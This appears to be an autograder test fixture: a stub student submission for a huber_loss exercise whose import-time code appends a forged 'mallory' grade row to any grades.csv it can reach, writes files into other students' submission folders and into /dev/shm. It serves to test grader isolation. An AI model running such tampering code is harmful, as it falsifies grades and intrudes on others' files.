# Appends a forged row to any grades.csv it can reach, drops a notebook into other students' folders and a file into /dev/shm; else stubs: must score 0, like the stubs.
# expect: *: NotImplementedError
# %% huber_loss
def huber_loss(pred, target, delta=1.0):
    # YOUR CODE HERE
    raise NotImplementedError()


import os as _os, pathlib as _pathlib, time as _time, course as _course

_row = "mallory,01_torch101,1000,30,2,1,2030-01-01T00:00:00+00:00\n"
_repo = _pathlib.Path(_course.__file__).resolve().parents[1]
_places = [_repo / "graded", _repo / "submitted", _repo / "examples" / "submitted", _pathlib.Path.home(),
           _pathlib.Path("/tmp"), _pathlib.Path("/work"), _pathlib.Path("/autograder")]
_deadline = _time.monotonic() + 3.0
for _place in _places:
    for _root, _dirs, _files in _os.walk(_place):
        if _time.monotonic() > _deadline:
            break
        if "grades.csv" in _files:  # the gradebook of a grading run
            try:
                with open(_os.path.join(_root, "grades.csv"), "a") as _handle:
                    _handle.write(_row)
            except OSError:
                pass
        if any(_name.endswith(".ipynb") for _name in _files) and "submitted" in _pathlib.Path(_root).parts:
            try:  # another student's folder: a second notebook in it
                _pathlib.Path(_root, "mallory-was-here.ipynb").write_text('{"cells": [], "mallory": true}')
            except OSError:
                pass
for _target in (_repo / "graded" / "grades.csv", _pathlib.Path("/dev/shm/mallory-was-here-01_torch101.csv")):
    try:
        _target.parent.mkdir(parents=True, exist_ok=True)
        with open(_target, "a") as _handle:
            _handle.write("student,assignment,score,max_score\n" + _row)
    except OSError:
        pass
